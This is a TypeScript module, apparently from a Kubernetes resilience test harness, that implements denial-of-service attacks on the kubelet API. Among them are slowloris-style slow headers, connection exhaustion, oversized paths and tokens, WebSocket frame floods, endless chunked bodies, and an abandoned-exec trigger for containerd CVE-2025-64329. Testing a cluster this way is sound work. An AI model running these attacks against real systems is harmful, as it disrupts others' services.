import { randomBytes } from "node:crypto";
import { once } from "node:events";
import { readFileSync } from "node:fs";
import { connect as connectPlain } from "node:net";
import { setTimeout as delay } from "node:timers/promises";
import { connect, type TLSSocket } from "node:tls";
import type { CertificateFiles } from "../../cluster/support/certificates.ts";
import { Attack } from "./attack.ts";

interface Target {
  readonly host: string;
  readonly port: number;
  /** An administrator's: what only the authenticated can try. */
  readonly client: CertificateFiles;
}

const heldConnections = 1_100;
const newConnectionsAtOnce = 20;

/** Connections that froze or filled the kubelet's API. */
export class ConnectionAttackers implements AsyncDisposable {
  readonly #target: Target;
  readonly #attacks: readonly Attack[];
  readonly #held = new Set<TLSSocket>();

  constructor(target: Target) {
    this.#target = target;
    this.#attacks = [
      new Attack("long paths", 1_000, () => this.#longPath()),
      new Attack("idle connections", 500, () => this.#hold()),
      new Attack("pipelined tokens", 200, () => this.#pipelineTokens()),
      new Attack("slow headers", 1_000, (signal) => this.#slowHeaders(signal)),
      new Attack("garbage", 500, () => this.#garbage()),
      new Attack("tiny frames", 1_000, () => this.#tinyFrames()),
      new Attack("abandoned commands", 500, () => this.#abandon()),
      new Attack("endless bodies", 2_000, () => this.#endlessBody()),
    ];
  }

  summary(): string {
    const parts = this.#attacks.map((attack) => attack.summary());
    return `${this.#held.size} connections held, ${parts.join(", ")}`;
  }

  async [Symbol.asyncDispose](): Promise<void> {
    for (const attack of this.#attacks) await attack[Symbol.asyncDispose]();
    for (const socket of this.#held) socket.destroy();
  }

  async #longPath(): Promise<void> {
    await this.#once(`GET /exec/${"%2f".repeat(80_000)}x HTTP/1.1\r\nHost: a\r\n\r\n`);
  }

  /** Keeps as many open as the server lets it; each has shown that it can ask. */
  async #hold(): Promise<void> {
    for (
      let count = 0;
      count < newConnectionsAtOnce && this.#held.size < heldConnections;
      count += 1
    ) {
      const socket = await this.#open();
      this.#held.add(socket);
      socket.once("close", () => this.#held.delete(socket));
      socket.resume();
      socket.write("GET /nothing HTTP/1.1\r\nHost: a\r\n\r\n");
    }
  }

  async #pipelineTokens(): Promise<void> {
    const requests = Array.from(
      { length: 50 },
      () =>
        `GET /pods HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${randomBytes(2_000).toString("hex")}\r\n\r\n`,
    );
    await this.#once(requests.join(""));
  }

  async #slowHeaders(signal: AbortSignal): Promise<void> {
    const socket = await this.#open();
    for (const byte of "GET / HTTP/1.1\r\nHost: a") {
      if (socket.destroyed) return;
      socket.write(byte);
      await delay(1_000, undefined, { signal });
    }
    socket.destroy();
  }

  async #garbage(): Promise<void> {
    const socket = connectPlain(this.#target.port, this.#target.host);
    socket.on("error", () => undefined);
    socket.resume();
    socket.end(randomBytes(10_000));
    await once(socket, "close", { signal: AbortSignal.timeout(20_000) });
  }

  /** A command whose input comes in frames of no and of one byte. */
  async #tinyFrames(): Promise<void> {
    const socket = await this.#openStream(
      "/exec/default/healthy-0/main?command=cat&input=1&output=1",
    );
    const empty = maskedFrame(0, false, Buffer.alloc(0));
    const single = maskedFrame(0, false, Buffer.from("x"));
    socket.write(maskedFrame(2, false, Buffer.from([0])));
    socket.write(Buffer.concat(Array.from({ length: 20_000 }, () => empty)));
    socket.write(Buffer.concat(Array.from({ length: 20_000 }, () => single)));
    await closing(socket);
  }

  /** Not attaches: containerd before 1.7.29 keeps a part of each, and then cannot stop the container (CVE-2025-64329). */
  async #abandon(): Promise<void> {
    const socket = await this.#openStream(
      "/exec/default/healthy-1/main?command=cat&input=1&output=1",
    );
    socket.destroy();
  }

  async #endlessBody(): Promise<void> {
    const socket = await this.#open();
    socket.write(
      "POST /run/default/healthy-0/main?cmd=true HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n",
    );
    const chunk = `4000\r\n${"x".repeat(0x4000)}\r\n`;
    for (let count = 0; count < 500 && !socket.destroyed; count += 1) {
      if (!socket.write(chunk)) await Promise.race([once(socket, "drain"), closing(socket)]);
    }
    await closing(socket);
  }

  /** Sends something, and reads until the server closes or has had its time. */
  async #once(text: string): Promise<void> {
    const socket = await this.#open();
    socket.resume();
    socket.write(text);
    await closing(socket);
  }

  async #openStream(path: string): Promise<TLSSocket> {
    const { client } = this.#target;
    const socket = await this.#open({
      cert: readFileSync(client.certificate),
      key: readFileSync(client.key),
    });
    const key = randomBytes(16).toString("base64");
    socket.write(
      [
        `GET ${path} HTTP/1.1`,
        "Host: a",
        "Connection: Upgrade",
        "Upgrade: websocket",
        "Sec-WebSocket-Version: 13",
        `Sec-WebSocket-Key: ${key}`,
        "Sec-WebSocket-Protocol: v5.channel.k8s.io",
        "\r\n",
      ].join("\r\n"),
    );
    await once(socket, "data", { signal: AbortSignal.timeout(10_000) });
    socket.resume();
    return socket;
  }

  async #open(
    identity: { readonly cert?: Buffer; readonly key?: Buffer } = {},
  ): Promise<TLSSocket> {
    const { host, port } = this.#target;
    const socket = connect({ host, port, rejectUnauthorized: false, ...identity });
    socket.on("error", () => undefined);
    // Rejects when the connection is refused.
    await once(socket, "secureConnect", { signal: AbortSignal.timeout(10_000) });
    return socket;
  }
}

/** Resolves when the connection has closed; ends it after ten seconds. */
function closing(socket: TLSSocket): Promise<void> {
  let closed = closings.get(socket);
  if (closed === undefined) {
    const timer = setTimeout(() => socket.destroy(), 10_000);
    closed = new Promise((resolve) => {
      socket.once("close", () => {
        clearTimeout(timer);
        resolve();
      });
    });
    closings.set(socket, closed);
  }
  return closed;
}

const closings = new WeakMap<TLSSocket, Promise<void>>();

/** A short frame as clients send it; a mask of zeros changes nothing. */
function maskedFrame(opcode: number, isLast: boolean, data: Buffer): Buffer {
  const head = Buffer.from([(isLast ? 0x80 : 0) | opcode, 0x80 | data.length, 0, 0, 0, 0]);
  return Buffer.concat([head, data]);
}
